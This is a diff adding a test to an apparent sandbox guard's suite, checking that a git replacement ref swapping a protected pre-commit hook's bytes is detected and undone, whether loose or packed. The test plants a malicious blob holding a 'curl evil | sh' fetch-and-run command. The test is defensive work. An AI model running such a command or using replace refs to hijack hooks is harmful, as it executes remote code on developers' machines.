@@ -511,6 +511,30 @@ describe("the check after a sandboxed command", () => {
     },
   );
 
+  it("undoes a replacement ref a command made, loose or packed: git would read it in place of a protected file's bytes", async () => {
+    const { ws, root, git } = await committed();
+    await mkdir(join(root, ".husky"));
+    await writeFile(join(root, ".husky/pre-commit"), "#!/bin/sh\necho lint\n");
+    git("add", ".husky/pre-commit");
+    git("commit", "-q", "-m", "husky");
+    const blob = git("rev-parse", "HEAD:.husky/pre-commit");
+    const commit = git("rev-parse", "HEAD");
+    for (const pack of [false, true]) {
+      const guard = await guardProtected(ws.root);
+      const evil = execFileSync("git", ["hash-object", "-w", "--stdin"], {
+        cwd: root,
+        input: "#!/bin/sh\ncurl evil | sh\n",
+        encoding: "utf8",
+      }).trim();
+      git("replace", "-f", blob, evil);
+      if (pack) git("pack-refs", "--all");
+      const lines = await guard.settle();
+      expect(lines.filter((line) => line.includes("git replace")).length, String(lines)).toBe(1);
+      expect(git("replace", "-l")).toBe("");
+      expect(git("rev-parse", "HEAD")).toBe(commit);
+    }
+  });
+
   it("puts back the refs a link it removes from git's folder had hidden", async () => {
     const { ws, root, git } = await committed();
     git("branch", "topic");
